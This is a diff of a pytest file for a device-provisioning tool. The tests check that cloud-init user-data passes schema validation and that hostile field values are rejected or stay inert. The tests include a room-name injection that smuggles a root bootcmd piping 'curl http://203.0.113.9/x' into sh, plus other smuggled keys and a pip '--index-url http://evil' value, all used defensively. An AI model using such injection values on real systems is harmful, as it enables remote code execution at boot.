@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import shutil
 import subprocess
 from pathlib import Path
 
@@ -10,16 +9,14 @@ import pytest
 import yaml
 
 from listenpost.agent.config import parse_agent_config
-from listenpost.collector.provision import build_bundle, write_bundle
+from listenpost.collector.provision import BadLabel, build_bundle, check_label, write_bundle
 from tests.conftest import require_tool
-
-CLOUD_INIT = shutil.which("cloud-init")
-needs_cloud_init = pytest.mark.usefixtures("_cloud_init")
 
 
 @pytest.fixture
-def _cloud_init() -> None:
-    require_tool("cloud-init")
+def cloud_init() -> str:
+    """The cloud-init command, looked up once: skips (or fails, in CI) without it."""
+    return require_tool("cloud-init")
 
 
 def _bundle(tmp_path: Path) -> Path:
@@ -36,28 +33,26 @@ def _bundle(tmp_path: Path) -> Path:
     return out
 
 
-def _schema(path: Path) -> subprocess.CompletedProcess[str]:
+def _schema(cloud_init: str, path: Path) -> subprocess.CompletedProcess[str]:
     # docs/references.md §9: `cloud-init schema -c FILE` (cloud-init 22.4) exits 0 for a valid cloud-config, 1 otherwise.
-    return subprocess.run([CLOUD_INIT, "schema", "-c", str(path)], capture_output=True, text=True, timeout=60)
+    return subprocess.run([cloud_init, "schema", "-c", str(path)], capture_output=True, text=True, timeout=60)
 
 
-@needs_cloud_init
-def test_user_data_passes_cloud_init_schema(tmp_path):
+def test_user_data_passes_cloud_init_schema(tmp_path, cloud_init):
     out = _bundle(tmp_path)
-    r = _schema(out / "user-data")
+    r = _schema(cloud_init, out / "user-data")
     assert r.returncode == 0, r.stderr
     assert "Valid cloud-config" in r.stdout
 
 
-@needs_cloud_init
-def test_a_broken_user_data_fails_the_same_check(tmp_path):
+def test_a_broken_user_data_fails_the_same_check(tmp_path, cloud_init):
     out = _bundle(tmp_path)
     doc = yaml.safe_load((out / "user-data").read_text())
     doc["runcmd"] = "not-a-list"
     doc["write_files"][0]["permissions"] = 644
     bad = tmp_path / "bad-data"
     bad.write_text("#cloud-config\n" + yaml.safe_dump(doc))
-    r = _schema(bad)
+    r = _schema(cloud_init, bad)
     assert r.returncode == 1
     assert "runcmd" in r.stderr and "permissions" in r.stderr
 
@@ -98,8 +93,7 @@ def test_two_bundles_for_one_board_get_distinct_instance_ids():
     assert yaml.safe_load(a["meta-data"])["instance-id"] != yaml.safe_load(b["meta-data"])["instance-id"]
 
 
-@needs_cloud_init
-def test_package_spec_reaches_pip_and_the_user_data_stays_valid(tmp_path):
+def test_package_spec_reaches_pip_and_the_user_data_stays_valid(tmp_path, cloud_init):
     """--package goes to pip as one argument; the bundle says which and when the code expires, in UTC."""
     out = tmp_path / "card"
     wheel = "https://files.brackenford.example/listenpost-0.1.0-py3-none-any.whl"
@@ -117,12 +111,9 @@ def test_package_spec_reaches_pip_and_the_user_data_stays_valid(tmp_path):
     assert ["/opt/listenpost/bin/pip", "install", "--upgrade", wheel] in doc["runcmd"]
     # 1 800 259 200 s after the Unix epoch = 20 836 days + 8 h = 2027-01-18 08:00 UTC (checked with GNU
     # `date -u -d @1800259200`, independent of the code under test).
-    assert "expires 2027-01-18 08:00 UTC" in (out / "user-data").read_text()
-    assert (
-        wheel in (out / "README.txt").read_text()
-        and "2027-01-18 08:00 UTC" in (out / "README.txt").read_text()
-    )
-    assert _schema(out / "user-data").returncode == 0
+    readme = (out / "README.txt").read_text()
+    assert wheel in readme and "expires 2027-01-18 08:00 UTC" in readme
+    assert _schema(cloud_init, out / "user-data").returncode == 0
 
 
 def test_default_package_is_this_version_and_a_spaced_one_is_refused():
@@ -135,3 +126,60 @@ def test_default_package_is_this_version_and_a_spaced_one_is_refused():
     assert package_spec("  listenpost>=0.1 ") == "listenpost>=0.1"
     with pytest.raises(ConfigError, match="--package"):
         package_spec("listenpost --index-url http://evil")
+
+
+# A room name that, written unescaped into a cloud-config, adds a top-level key run as root at boot.
+INJECTED = "G0 Foyer\nbootcmd: [[sh, -c, 'curl -s http://203.0.113.9/x | sh']]\n#"
+
+
+@pytest.mark.parametrize(
+    "value", [INJECTED, "G0\rFoyer", "G0\x00", "a\x1b[2J", "a\u2028b", "a\u202eb"], ids=repr
+)
+def test_a_name_with_a_control_character_is_refused_naming_the_field(value):
+    with pytest.raises(BadLabel, match="^room: must not contain control characters") as e:
+        check_label("room", value)
+    assert e.value.field == "room"
+    assert check_label("room", "  U4 Changing Hall \u00e9 ") == "U4 Changing Hall \u00e9"
+
+
+def test_hostile_values_that_reach_the_writer_stay_values(tmp_path, cloud_init):
+    """
+    Even a value no check stopped cannot change the user-data's structure: it parses to exactly the
+    keys of a benign bundle, with the value intact where it belongs, and cloud-init accepts it.
+    """
+    benign = yaml.safe_load(
+        build_bundle(
+            board="g0-a", room="G0", floor=None, code="C", collector_url="http://c:8470", expires_at=0
+        )["user-data"]
+    )
+    board = "g0-a\nbootcmd: [[touch, /pwned-board]]"
+    code = "7KQ2\n  - [touch, /pwned-code]\n#"
+    url = "http://c:8470/\nruncmd: [[touch, /pwned-url]]"
+    out = tmp_path / "card"
+    write_bundle(
+        out,
+        board=board,
+        room=INJECTED,
+        floor="up\r\nbootcmd: [x]",
+        code=code,
+        collector_url=url,
+        expires_at=0,
+    )
+    text = (out / "user-data").read_text()
+    assert text.startswith("#cloud-config\n")
+    doc = yaml.safe_load(text)
+    assert list(doc) == list(benign)  # no key added, none lost
+    assert doc["hostname"] == board
+    enroll = next(c for c in doc["runcmd"] if "enroll" in c)
+    assert enroll[enroll.index("--code") + 1] == code
+    assert enroll[enroll.index("--collector") + 1] == url.rstrip("/")
+    assert len(doc["runcmd"]) == len(benign["runcmd"])
+    assert list(yaml.safe_load((out / "agent.yaml").read_text())) == [
+        "board",
+        "state_dir",
+        "collector",
+        "source",
+    ]
+    assert list(yaml.safe_load((out / "meta-data").read_text())) == ["instance-id", "local-hostname"]
+    r = _schema(cloud_init, out / "user-data")
+    assert r.returncode == 0, r.stderr
